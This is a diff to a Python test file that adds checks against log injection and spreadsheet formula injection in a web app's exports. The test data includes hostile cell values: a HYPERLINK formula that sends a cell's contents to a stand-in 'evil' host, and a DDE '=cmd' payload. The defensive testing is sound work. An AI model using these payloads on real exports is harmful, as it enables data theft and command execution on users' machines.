@@ -196,6 +196,19 @@ async def test_a_refused_sign_in_is_logged_with_what_and_from_where(
     assert "\n" not in record.getMessage() and GOOD[:-6] not in record.getMessage()
 
 
+@pytest.mark.parametrize("method", ["GET", "POST"])
+async def test_nobody_writes_the_log_full(method: str, browse: Open, caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level(logging.INFO)
+    path = "/customers/%0D%0A%1B%E2%80%AE" + "x" * 20_000
+    async with browse(World()) as client:
+        for headers in ({}, {"Origin": "https://" + "y" * 20_000}, FORGED["tampered"]):
+            answer = await client.request(method, path, headers=headers)
+            assert answer.status_code in (302, 401, 403)
+    said = [each.getMessage() for each in caplog.records if each.name.startswith("web.")]
+    assert len(said) == 3 and all("'/customers/ " in each and len(each) < 700 for each in said)
+    assert not any(ord(letter) < 32 for each in said for letter in each)
+
+
 # What goes wrong is told plainly (S10)
 
 
@@ -269,6 +282,7 @@ HOSTILE = {
     "formula": "=cmd|'/c calc'!A0",
     "plus": "+1+1",
     "at": "@SUM(1)",
+    "list separators": 'Bob;=HYPERLINK("https://evil/?"&A1;"open")|+1;; "@a',
     "nul": "a\x00b",
     "300": "<b>" * 100,
     "marks": "\u200f\u202e=1\u2066\u200d🧑‍🤝‍🧑",
@@ -332,7 +346,10 @@ MAY_BE_MISSING = {
 
 
 def check_cells(text: str, template: str) -> None:
-    """No cell that a spreadsheet would calculate, and none that breaks its row."""
+    """No cell that a spreadsheet would calculate, whatever parts its cells, and none that breaks its row."""
+    for separator in ";|\t":
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+            assert not any(cell.lstrip(' "').startswith(("=", "+", "-", "@")) for cell in row[1:]), (template, row)
     rows = list(csv.reader(io.StringIO(text, newline="")))
     assert len({len(row) for row in rows}) == 1, template
     for row in rows:
